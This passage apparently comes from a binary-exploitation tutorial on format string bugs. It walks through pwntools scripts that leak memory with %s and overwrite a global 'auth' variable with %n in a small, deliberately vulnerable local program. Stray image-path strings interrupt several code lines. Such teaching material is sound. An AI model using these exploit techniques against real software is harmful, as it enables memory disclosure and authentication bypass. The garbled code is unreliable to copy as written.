You may notice that the last two values contain the hex values of %x. That's because we're reading the buffer. Here it's at the 4th offset - if we can write an address and then point %s at it, we can get an arbitrary write!$ ./vuln


%p is a pointer; generally, it returns the same as %x just precedes it with a 0x which makes it stand out more

As we can see, we're reading the value we inputted. Let's write a quick pwntools script that writes the location of the ELF file and reads it with %s - if all goes well, it should read the first bytes of the file, which is always \x7fELF. Start with the basics:

from pwn import *

p = process('./vuln')payload = p32(0x41424344)
payload += b'|%6$p'

$ python3

[+] Starting local process './vuln': pid 3204
[*] b'DCBA|0x41424344'

Nice it works. The base address of the binary is 0x8048000, so let's replace the 0x41424344 with that and read it with %s:

from pwn import *

p = process('./vuln')

payload = p32(0x8048000)
payload += b'|%6$s'


It doesn't work.

The reason it doesn't work is that printf stops at null bytes, and the very first character is a null byte. We have to put the format specifier first.from pwn import *

p = process('./vuln')

payload = b'%8$p||||'
payload += p32(0x8048000)


Let's break down the payload:

  • We add 4 | because we want the address we write to fill one memory address, not half of one and half another, because that will result in reading the wrong address
  • The offset is %8$p because the start of the buffer is generally at %6$p. However, memory addresses are 4 bytes long each and we already have 8 bytes, so it's two memory addresses further along at %8$p.
$ python3

[+] Starting local process './vuln': pid 3255
[*] b'0x8048000||||'It still stops at the null byte, but that's not important because we get the output; the address is still written to memory, just not printed back.

Now let's replace the p with an s.

$ python3

[+] Starting local process './vuln': pid 3326
[*] b'\x7fELF\x01\x01\x01||||'

Of course, %s will also stop at a null byte as strings in C are terminated with them. We have worked out, however, that the first bytes of an ELF file up to a null byte is \x7fELF\x01\x01\x01.

Arbitrary Writes

Luckily C contains a rarely-used format specifier %n. This specifier takes in a pointer (memory address) and writes there the number of characters written so far. If we can control the input, we can control how many characters are written and also where we write them.

Obviously, there is a small flaw - to write, say, 0x8048000 to a memory address, we would have to write that many characters - and generally buffers aren't quite that big. Luckily there are other format string specifiers for that. I fully recommend you watch this video to completely understand it, but let's jump into a basic binary.


#include <stdio.h>

int auth = 0;

int main() {char password[100];

    puts("Password: ");
    fgets(password, sizeof password, stdin);

    printf("Auth is %i\n", auth);

    if(auth == 10) {

Simple - we need to overwrite the variable auth with the value 10. Format string vulnerability is obvious, but there's also no buffer overflow due to a secure fgets.

Work out the location of auth

As it's a global variable, it's within the binary itself. We can check the location using readelf to check for symbols.

$ readelf -s auth | grep auth
    34: 00000000     0 FILE    LOCAL  DEFAULT  ABS auth.c57: 0804c028     4 OBJECT  GLOBAL DEFAULT   24 auth

The location of auth is 0x0804c028.

Writing the Exploit

We're lucky there are no null bytes, so there's no need to change the order.$ ./auth

%p %p %p %p %p %p %p %p %p
0x64 0xf7f9f580 0x8049199 (nil) 0x1 0xf7ff5980 0x25207025 0x70252070 0x20702520

Buffer is the 7th %p.

from pwn import *

AUTH = 0x804c028

p = process('./auth')

payload =p32(AUTH)
payload += b'|' * 6         # We need to write the value 10, AUTH is 4 bytes, so we need 6 more for %n
payload += b'%7$n'


And easy peasy:

[+] Starting local process './auth': pid 4045

[*] Process './auth' stopped with exit code 0 (pid 4045)Auth is 10


As you can expect, pwntools has a handy feature for automating %n format string exploits:

payload = fmtstr_payload(offset, {location : value})

The offset in this case is 7 because the 7th %p read the buffer; the location is where you want to write it and the value is what. Note that you can add as many location-value pairs into the dictionary as you want.

payload = fmtstr_payload(7, {AUTH: 10})

You can also grab the location of the auth symbol with pwntools:

elf = ELF('./auth')
AUTH = elf.sym['auth']

Check out the pwntoolstutorials for more cool features